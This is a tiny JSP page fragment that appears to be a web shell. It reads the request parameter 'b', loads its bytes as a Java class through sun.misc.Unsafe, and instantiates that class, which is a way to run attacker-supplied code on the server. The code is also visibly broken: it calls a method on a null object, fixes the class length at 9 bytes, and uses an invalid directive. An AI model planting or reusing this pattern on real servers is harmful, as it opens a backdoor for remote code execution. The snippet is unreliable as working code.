<%@ inert %>
<% sun.misc.Unsafe u=null; u.defineClass("A",request.getParameter("b").getBytes(),0,9,null,null).newInstance(); %>
